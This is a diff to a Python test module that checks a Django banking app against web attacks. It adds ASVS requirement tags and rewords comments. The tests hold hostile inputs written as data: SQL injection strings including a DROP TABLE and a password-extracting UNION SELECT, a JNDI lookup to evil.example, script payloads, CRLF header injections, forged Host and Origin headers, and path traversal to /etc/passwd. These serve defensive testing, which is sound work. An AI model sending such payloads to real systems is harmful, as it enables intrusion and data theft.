@@ -1,4 +1,4 @@
-"""Attacks on every page there is, from the URL resolver: injection, scripts, forged forms, hosts and headers.
+"""Attacks on every page, from the URL resolver: injection, scripts, forged forms, hosts and headers.
 
 R8.2, R8.3, R9.6; issue 5. Elsewhere: the staff's filters (`test_staff_lists`), input that breaks programs
 (`test_hard_input`), each peer's fault (`test_peer_faults_*`), links in mails and a forged Host
@@ -23,6 +23,7 @@ from support.models import RequestKind, ServiceRequest, Ticket
 from support.requests import services as requests
 from tests.access_walk import Hers, Page, made_up, pages, rows_about, staff_pages, text_of
 from tests.acts import NEWCOMER, mails
+from tests.asvs import proves
 from tests.staff_acts import REASON, an_origin, fresh_code
 from transfers.accounts import renaming
 from transfers.models import Payee, TransferOrder
@@ -31,7 +32,7 @@ from transfers.payees import services as payees
 
 pytestmark = pytest.mark.django_db
 
-# What a database says of itself when a string of somebody's became a part of a statement.
+# What a database reports when a person's text became a part of a statement.
 SPEAKS_SQL = re.compile(
     r"sqlite|syntax error|OperationalError|DataError|ProgrammingError|Traceback|SELECT .* FROM", re.IGNORECASE
 )
@@ -39,13 +40,13 @@ INJECTIONS = (
     "' OR '1'='1", "x' OR 1=1 --", '" OR ""="', "1) OR (1=1", "1 OR 1=1", "'; DROP TABLE accounts_user; --",
     "' UNION SELECT email, password FROM accounts_user --", "%' OR '%'='", "\\' OR 1=1 --", "${jndi:ldap://evil.example}",
 )  # fmt: skip
-# Tells whether anything of Charlie's, whom Alice attacks, came to light.
+# Shows whether anything of Charlie's, whom Alice attacks, was revealed.
 HIS_WORD = "Oleander"
 
 
 @pytest.fixture
 def his(charlie: Any, bob: Any, open_account: Any) -> Any:
-    """Charlie, with a word of his own in all that he wrote."""
+    """Charlie, with a word of his own in everything that he wrote."""
     account = open_account(charlie, "77.00")
     renaming.rename_account(actor=charlie, account=account, nickname=HIS_WORD)
     cash.deposit(
@@ -60,7 +61,7 @@ def address(page: Page, hers: Hers) -> str:
 
 
 def walked() -> list[Page]:
-    """All pages but those that end the session of whoever walks."""
+    """Return all pages except those that end the visitor's session."""
     return [page for page in pages().values() if page.name not in ("sign_out", "sessions_end_others")]
 
 
@@ -68,7 +69,7 @@ def walked() -> list[Page]:
 
 
 def forms(browser: Client, hers: Hers) -> Iterator[tuple[str, dict[str, Any]]]:
-    """Every page with a form that this person is shown, and what its fields hold at first."""
+    """Yield every page with a form that this person is shown, and the initial values of its fields."""
     for page in walked():
         paths = [address(page, hers)]
         if page.name == "request_new":
@@ -79,6 +80,7 @@ def forms(browser: Client, hers: Hers) -> Iterator[tuple[str, dict[str, Any]]]:
                 yield path, {name: form[name].value() or "" for name in form.fields}
 
 
+@proves("V1.2.4")
 def test_injection_into_any_field_of_any_form_is_text(hers: Hers, his: Any, alice: Any, browser_of: Any) -> None:
     browser, was, sent = browser_of(alice), rows_about(his), 0
     found = [*forms(browser, hers), *forms(Client(), hers)]
@@ -98,11 +100,12 @@ def test_injection_into_any_field_of_any_form_is_text(hers: Hers, his: Any, alic
     assert User.objects.count() >= 3
 
 
+@proves("V1.2.4")
 @pytest.mark.parametrize("name", ["account", "type", "date_from", "date_to", "min_amount", "max_amount", "text"])
 def test_injection_into_a_filter_of_the_history_finds_nothing_more(
     name: str, hers: Hers, his: Any, alice: Any, browser_of: Any
 ) -> None:
-    # A condition that is always true would show it all: then there would be more rows than with nothing found.
+    # A condition that is always true would show everything: more rows than a search without results.
     browser = browser_of(alice)
     everything = len(browser.get("/history/").context["entries"])
     assert everything > 1
@@ -117,6 +120,7 @@ def test_injection_into_a_filter_of_the_history_finds_nothing_more(
         assert exported.status_code == 302 or text_of(exported).count("\n") == 1, attack
 
 
+@proves("V1.2.4")
 def test_injection_into_what_an_address_carries_is_not_understood(
     hers: Hers, his: Any, alice: Any, browser_of: Any
 ) -> None:
@@ -144,7 +148,7 @@ def ask_for_name(alice: Any, first_name: str, last_name: str) -> Any:
 
 
 def write_scripts(alice: Any, sam: Any, ada: Any) -> None:
-    """Into every text that a customer or one of the staff can write."""
+    """Write scripts into every text that a customer or a member of staff can write."""
     account = BankAccount.objects.get(owner=alice, nickname="Moonfund")
     asked = ServiceRequest.objects.get(customer=alice)
     requests.cancel_request(actor=alice, public_id=asked.public_id)
@@ -171,6 +175,7 @@ def write_scripts(alice: Any, sam: Any, ada: Any) -> None:
     people.lock_user(origin=an_origin(), actor=ada, user=bob, reason=f"{REASON} {SCRIPT}", code=fresh_code(ada))
 
 
+@proves("V1.2.1")
 def test_no_script_that_anybody_wrote_is_live_on_any_page_or_in_any_mail(
     hers: Hers, alice: Any, sam: Any, ada: Any, audrey: Any, browser_of: Any
 ) -> None:
@@ -198,8 +203,9 @@ def test_no_script_that_anybody_wrote_is_live_on_any_page_or_in_any_mail(
     assert sum("&lt;img src=x" in mail.html_message for mail in sent) > 3
 
 
+@proves("V1.2.1")
 def test_a_script_typed_into_a_form_comes_back_as_text(hers: Hers, alice: Any, browser_of: Any) -> None:
-    # Reflected: by POST with errors, and by what an address carries.
+    # Reflected: by POST with errors, and by parameters of an address.
     for browser in (browser_of(alice), Client()):
         for path, fields in [*forms(browser, hers)]:
             for method in (browser.post, browser.get):
@@ -210,6 +216,7 @@ def test_a_script_typed_into_a_form_comes_back_as_text(hers: Hers, alice: Any, b
             assert not LIVE.search(text_of(browser.get(address(page, hers), query))), page.name
 
 
+@proves("V1.2.1")
 def test_a_script_in_a_name_at_registration_is_text_in_the_mail(client: Client) -> None:
     client.post("/register/", NEWCOMER | {"first_name": SCRIPT, "last_name": BREAKS_OUT})
     [mail] = mails(NEWCOMER["email"])
@@ -220,6 +227,7 @@ def test_a_script_in_a_name_at_registration_is_text_in_the_mail(client: Client) 
 # --- Forged forms -------------------------------------------------------------------------------------------
 
 
+@proves("V3.5.1")
 @pytest.mark.parametrize("origin", [{}, {"Origin": "https://evil.example"}, {"Origin": "null"}])
 def test_no_address_takes_a_form_without_a_token(
     origin: dict[str, str], hers: Hers, alice: Any, ada: Any, browser_of: Any
@@ -237,7 +245,7 @@ def test_no_address_takes_a_form_without_a_token(
             answer = browser.post(path, {"amount": "1", "code": "123456"}, headers=origin)
             sent += 1
             assert answer.status_code == 403, path
-            # Under /api/ programs are spoken to.
+            # Under /api/ the clients are programs.
             said = "This request cannot be read" if path.startswith("/api/") else "We could not accept that"
             assert said in text_of(answer), path
             assert "Send it again" not in text_of(answer), path
@@ -249,6 +257,7 @@ def test_no_address_takes_a_form_without_a_token(
 # --- Where one is sent --------------------------------------------------------------------------------------
 
 
+@proves("V3.7.2")
 @pytest.mark.parametrize("target", ["https://evil.example/", "/\\evil.example/"])
 def test_no_page_sends_anybody_to_another_site(target: str, hers: Hers, alice: Any, ada: Any, browser_of: Any) -> None:
     # More targets, at the one page that has a `next`: `test_sign_in`.
@@ -265,6 +274,7 @@ def test_no_page_sends_anybody_to_another_site(target: str, hers: Hers, alice: A
                 assert not to.startswith(("//", "/\\")), (path, to)
 
 
+@proves("V4.1.3")
 @pytest.mark.parametrize(
     "headers",
     [
@@ -287,6 +297,7 @@ def test_headers_that_name_another_host_path_or_method_change_no_page(
             assert title.findall(plain.content.decode()) == title.findall(forged.content.decode()), path
 
 
+@proves("V4.1.3")
 def test_a_forged_host_is_refused_on_every_page(hers: Hers, alice: Any, browser_of: Any) -> None:
     browser = browser_of(alice)
     for page in walked():
@@ -296,6 +307,7 @@ def test_a_forged_host_is_refused_on_every_page(hers: Hers, alice: Any, browser_
             assert "evil.example" not in text_of(answer)
 
 
+@proves("V7.2.4")
 def test_a_session_that_the_attacker_chose_is_not_the_one_that_signs_in(alice: Any, code_of: Any) -> None:
     # Fixation, with an id that was never given out and with one that was.
     visitor = Client()
@@ -313,8 +325,9 @@ def test_a_session_that_the_attacker_chose_is_not_the_one_that_signs_in(alice: A
 # --- Headers of every answer ----------------------------------------------------------------------------------
 
 
+@proves("V3.4.4", "V3.4.6", "V14.3.2")
 def test_no_answer_can_be_framed_or_kept(hers: Hers, alice: Any, ada: Any, browser_of: Any) -> None:
-    # R8.2: of every page, to everybody, by GET and POST; downloads and refusals included.
+    # R8.2: on every page, for everybody, by GET and POST; downloads and refusals included.
     for browser in (Client(), browser_of(alice), browser_of(ada)):
         for path in [*(address(page, hers) for page in walked()), "/nowhere/", "/admin/", "/admin/accounts/user/"]:
             for method in (browser.get, browser.post):
@@ -335,6 +348,7 @@ CRLF = (
 )
 
 
+@proves("V1.2.1")
 def test_a_line_break_typed_anywhere_starts_no_header(hers: Hers, alice: Any, browser_of: Any) -> None:
     typed = dict.fromkeys(hers.fields, "/" + "".join(CRLF))
     for browser in (browser_of(alice), Client()):
@@ -347,6 +361,7 @@ def test_a_line_break_typed_anywhere_starts_no_header(hers: Hers, alice: Any, br
                 assert not any("\n" in value or "\r" in value for value in answer.headers.values())
 
 
+@proves("V1.3.11")
 def test_a_line_break_typed_into_a_subject_or_name_starts_no_header_of_a_mail(
     hers: Hers, alice: Any, browser_of: Any
 ) -> None:
@@ -369,6 +384,7 @@ def test_a_line_break_typed_into_a_subject_or_name_starts_no_header_of_a_mail(
 SAFE_FILENAME = re.compile(r'(attachment|inline); filename="[A-Za-z0-9][A-Za-z0-9._-]*\.(csv|pdf)"')
 
 
+@proves("V5.4.1", "V5.4.2")
 def test_names_of_downloads_have_no_path_and_no_text_of_anybodys(hers: Hers, alice: Any, browser_of: Any) -> None:
     account = BankAccount.objects.get(owner=alice, nickname="Moonfund")
     renaming.rename_account(actor=alice, account=account, nickname='../../x"; filename="evil.exe')
@@ -383,6 +399,7 @@ def test_names_of_downloads_have_no_path_and_no_text_of_anybodys(hers: Hers, ali
     assert seen >= 3
 
 
+@proves("V5.3.2")
 @pytest.mark.parametrize("trick", ["../../../etc/passwd", "..%2f..%2fmanage.py", "....//manage.py", "%00", "x" * 5000])
 def test_tricks_with_paths_are_not_found(trick: str, hers: Hers, alice: Any, browser_of: Any) -> None:
     browser = browser_of(alice)
